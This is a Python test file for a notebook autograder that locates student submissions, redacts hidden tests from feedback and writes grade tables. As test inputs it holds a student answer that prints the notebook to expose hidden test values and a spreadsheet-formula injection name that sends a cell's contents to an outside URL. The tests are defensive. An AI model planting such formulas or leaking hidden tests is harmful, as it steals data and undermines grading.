"""The grading command's parts that need no kernel: finding submissions, hiding hidden tests."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from nbgrader.dbutil import _temp_alembic_ini
from sqlalchemy import text

from autograder.feedback import OUTPUT_NOTE, QUOTE_NOTE, hide_hidden_tests
from autograder.report import GRADES_CSV, TASKS_CSV, Row, write_tables
from autograder.submissions import LayoutError, find_submissions

KNOWN = ["00_gpu_detection", "01_jit_compilation"]


def touch(path: Path, text: str = "{}") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_nbgrader_tree_from_the_course_folder_or_submitted(tmp_path: Path) -> None:
    ada = touch(tmp_path / "submitted" / "ada" / "00_gpu_detection" / "exercises.ipynb")
    touch(tmp_path / "submitted" / "bob" / "00_gpu_detection" / "answers.ipynb")
    touch(tmp_path / "submitted" / "ada" / "01_jit_compilation" / "exercises.ipynb")

    for folder in (tmp_path, tmp_path / "submitted"):
        found = find_submissions(folder, ["00_gpu_detection"], KNOWN)
        assert [(s.student, s.assignment, s.notebook) for s in found] == [
            ("ada", "00_gpu_detection", ada),
            ("bob", "00_gpu_detection", None),
        ]
        assert "found: answers.ipynb" in found[1].problem
    assert len(find_submissions(tmp_path, [], KNOWN)) == 3


def test_flat_download_of_files_and_folders(tmp_path: Path) -> None:
    ada = touch(tmp_path / "ada.ipynb")
    bob = touch(tmp_path / "bob" / "exercises.ipynb")
    (tmp_path / "cy").mkdir()
    touch(tmp_path / "notes.txt", "not a notebook")
    found = find_submissions(tmp_path, ["00_gpu_detection"], KNOWN)
    assert [(s.student, s.notebook) for s in found] == [("ada", ada), ("bob", bob), ("cy", None)]
    assert "the folder is empty" in found[2].problem


@pytest.mark.parametrize(
    ("layout", "assignments", "message"),
    [
        (None, ["00_gpu_detection"], "not a folder"),
        ("empty", ["00_gpu_detection"], "no submissions found"),
        ("flat", [], "a flat folder needs exactly one --assignment"),
        ("flat", ["00_gpu_detection", "01_jit_compilation"], "exactly one --assignment"),
        ("flat", ["99_nothing"], "unknown assignment(s): 99_nothing"),
    ],
)
def test_anything_else_is_refused_naming_the_expected_layouts(
    layout: str | None, assignments: list[str], message: str, tmp_path: Path
) -> None:
    folder = tmp_path / "given"
    if layout == "empty":
        folder.mkdir()
    elif layout == "flat":
        touch(folder / "ada.ipynb")
    with pytest.raises(LayoutError) as error:
        find_submissions(folder, assignments, KNOWN)
    assert message in str(error.value)
    if "unknown" not in message:
        assert "expected either nbgrader's tree" in str(error.value)


def test_hidden_test_code_and_its_traceback_are_removed() -> None:
    source = "assert f(1) == 1\n### BEGIN HIDDEN TESTS\nassert f(-5) == 5  # secret\n"
    cell = nbformat.v4.new_code_cell(source + "### END HIDDEN TESTS")
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "t-hidden", "points": 1}
    cell.outputs = [
        nbformat.v4.new_output(
            "error",
            ename="AssertionError",
            evalue="",
            traceback=["----> 3 assert f(-5) == 5  # secret", "AssertionError: "],
        )
    ]
    visible = nbformat.v4.new_code_cell("print('kept')")
    notebook = nbformat.v4.new_notebook(cells=[cell, visible])

    hidden = hide_hidden_tests(notebook)

    text = nbformat.writes(hidden)
    assert "secret" not in text and "HIDDEN TESTS" not in text
    assert hidden.cells[0].source.startswith("assert f(1) == 1")
    assert hidden.cells[0].outputs[0].traceback == ["AssertionError: "]
    assert hidden.cells[1] == visible
    assert "secret" in nbformat.writes(notebook), "the original is left alone"


def test_what_an_answer_finds_in_the_hidden_tests_stays_out_of_the_feedback() -> None:
    """An answer runs inside the hidden tests: what it prints there, or quotes anywhere, is
    not shown (printing the calling frame's globals, In[-1] or the notebook file)."""
    hidden_line = "_expected = {'budget': 4096}  # secret"
    source = (
        f"### BEGIN HIDDEN TESTS\n{hidden_line}\nassert f(1) == _expected\n### END HIDDEN TESTS"
    )
    tests = nbformat.v4.new_code_cell(source)
    tests.metadata["nbgrader"] = {"grade": True, "grade_id": "t-hidden", "points": 1}
    tests.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="found {'budget': 4096}\n"),
        nbformat.v4.new_output("error", ename="AssertionError", evalue="", traceback=[]),
    ]
    answer = nbformat.v4.new_code_cell("def f(x):\n    print(open('exercises.ipynb').read())")
    answer.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text=f"...\n{hidden_line}\n..."),
        nbformat.v4.new_output("error", ename="ValueError", evalue=hidden_line, traceback=[]),
        nbformat.v4.new_output("stream", name="stdout", text="my own line\n"),
    ]
    notebook = nbformat.v4.new_notebook(cells=[answer, tests])

    hidden = hide_hidden_tests(notebook)

    text = nbformat.writes(hidden)
    assert "secret" not in text and "4096" not in text
    assert [o.output_type for o in hidden.cells[1].outputs] == ["stream", "error"]
    assert hidden.cells[1].outputs[0].text == OUTPUT_NOTE
    assert hidden.cells[1].outputs[1].ename == "AssertionError", "a failure still shows"
    assert hidden.cells[0].outputs[0].text.startswith(QUOTE_NOTE)
    assert (hidden.cells[0].outputs[1].ename, hidden.cells[0].outputs[1].evalue) == (
        "ValueError",
        QUOTE_NOTE,
    )
    assert hidden.cells[0].outputs[2].text == "my own line\n"


def test_a_student_with_two_submissions_is_refused(tmp_path: Path) -> None:
    touch(tmp_path / "ada.ipynb")
    touch(tmp_path / "ada" / "exercises.ipynb")
    with pytest.raises(LayoutError, match="ada has two submissions for 00_gpu_detection"):
        find_submissions(tmp_path, ["00_gpu_detection"], KNOWN)


def test_a_new_gradebook_is_stamped_without_an_alembic_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """autograder.gradebook_version reads the revision `alembic heads` prints, in-process."""
    import nbgrader.api

    from autograder.gradebook_version import alembic_head
    from autograder.release import generate

    with _temp_alembic_ini(f"sqlite:///{tmp_path / 'unused.db'}") as ini:
        printed = subprocess.check_output(["alembic", "-c", ini, "heads"], text=True)
    assert printed.split()[0] == alembic_head()
    # every path that generates an assignment (release, autograde, class grading) imports this
    asks = "import autograder.release, nbgrader.api as a; print(a.get_alembic_version.__qualname__)"
    asked = subprocess.check_output([sys.executable, "-c", asks], text=True).strip()
    assert asked == "alembic_head", asked

    def no_process(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"a process was started: {args}")

    monkeypatch.setattr(subprocess, "check_output", no_process)
    (tmp_path / "course").mkdir()
    generate("00_gpu_detection", tmp_path / "course")
    with nbgrader.api.Gradebook(f"sqlite:///{tmp_path / 'course' / 'gradebook.db'}") as book:
        version = book.db.execute(text("SELECT version_num FROM alembic_version")).scalar_one()
    assert version == alembic_head()


def test_a_student_name_that_is_a_formula_stays_text_in_the_tables(tmp_path: Path) -> None:
    """A student chooses their file name: a spreadsheet must not run it as a formula."""
    name = '=HYPERLINK("http://example.com/?"&C2,"eve")'
    row = Row(name, "00_gpu_detection", 3.0, 12.0, "graded", {"task1-visible": 1.0})
    for _ in range(2):  # graded again: the row is replaced, not duplicated
        write_tables(tmp_path, [row], {"00_gpu_detection": {"task1-visible": 1.0}})
    for table in (GRADES_CSV, TASKS_CSV):
        with (tmp_path / table).open(newline="", encoding="utf-8") as f:
            students = [r["student"] for r in csv.DictReader(f)]
        assert students == ["'" + name], (table, students)
